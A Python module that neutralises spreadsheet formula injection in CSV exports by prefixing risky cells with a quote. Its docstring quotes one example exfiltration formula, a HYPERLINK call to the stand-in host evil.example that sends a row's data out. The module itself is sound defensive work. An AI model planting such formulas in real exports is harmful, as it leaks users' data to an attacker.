"""Pure: CSV that a spreadsheet opens as data, never as formulas.

Subjects, filenames and senders are written by strangers (STYLE rule 14). A cell that
starts with `=`, `+`, `-` or `@` is a formula to Excel, LibreOffice and Google Sheets
(`=HYPERLINK("http://evil.example/?"&A1,"open")` sends the row to whoever wrote it), and
a leading tab or carriage return lets one hide behind them; such text gets a leading `'`
(shared/DESIGN.md, "CSV everywhere"). Numbers of our own (ids, UIDs, sizes, attempts)
stay numbers: a negative one is a number to a spreadsheet, not a formula, and quoting it
would turn a column of sizes into text that no longer sums. Every CSV the relay writes
(`invoice-relay audit --format csv`, the status page's export) goes through `write_csv`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import datetime
from enum import Enum
from typing import Final

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> str:
    """One cell's text: None empty, datetimes ISO 8601, enums their value, and text that
    a spreadsheet would run as a formula neutralised with a leading `'`."""
    if value is None:
        return ""
    if isinstance(value, int | float):
        return str(value)  # ours: a number, whatever its sign
    if isinstance(value, datetime):
        return value.isoformat(timespec="seconds")
    text = str(value.value) if isinstance(value, Enum) else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """The header line and one line per row, every cell through `safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return buffer.getvalue()
